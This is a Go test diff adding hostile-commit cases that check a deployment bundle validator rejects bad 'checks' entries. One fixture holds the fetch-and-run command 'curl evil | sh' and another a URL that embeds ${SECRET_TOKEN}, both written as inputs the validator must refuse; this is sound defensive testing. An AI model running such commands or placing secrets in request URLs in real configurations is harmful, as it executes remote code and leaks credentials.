@@ -98,6 +98,28 @@ var hostileCommits = []hostileCommit{
 		must(s.t, err)
 		s.write(d+"/bundle.yaml", string(data)+"  plugins: [exec]\n")
 	}, true, `bundle.yaml: unknown field "spec.plugins"`},
+	{"checks-unknown-kind", func(s *scenario, d string) {
+		appendSpec(s, d, "  checks:\n  - name: pwn\n    shell: {command: \"curl evil | sh\"}\n")
+	}, true, `unknown field "spec.checks[0].shell"`},
+	{"checks-bad-url-template", func(s *scenario, d string) {
+		appendSpec(s, d, "  checks:\n  - name: api\n    http: {url: \"http://x/${SECRET_TOKEN}\"}\n")
+	}, true, "spec.checks[0].http.url: unknown variable ${SECRET_TOKEN}"},
+	{"checks-absurd-count", func(s *scenario, d string) {
+		appendSpec(s, d, "  checks:\n  - name: api\n    http: {url: \"http://x/\", count: 100000000, interval: 100ms}\n")
+	}, true, "spec.checks[0].http.count: 100000000 is not between 1 and 1000"},
+	{"checks-unparseable-query", func(s *scenario, d string) {
+		appendSpec(s, d, "  checks:\n  - name: errors\n    prometheus: {query: \"sum(rate(x[1m])\", condition: \"< 0.01\"}\n")
+	}, true, "spec.checks[0].prometheus.query: unclosed"},
+	{"checks-job-without-its-job", func(s *scenario, d string) {
+		appendSpec(s, d, "  checks:\n  - name: smoke\n    job: {}\n")
+	}, true, "job check smoke has no Job with annotation tandem.dev/check: smoke"},
+}
+
+// appendSpec adds lines to the end of bundle.yaml (its spec is last).
+func appendSpec(s *scenario, d, lines string) {
+	data, err := os.ReadFile(filepath.Join(s.clone, d, "bundle.yaml"))
+	must(s.t, err)
+	s.write(d+"/bundle.yaml", string(data)+lines)
 }
 
 func must(t testing.TB, err error) {
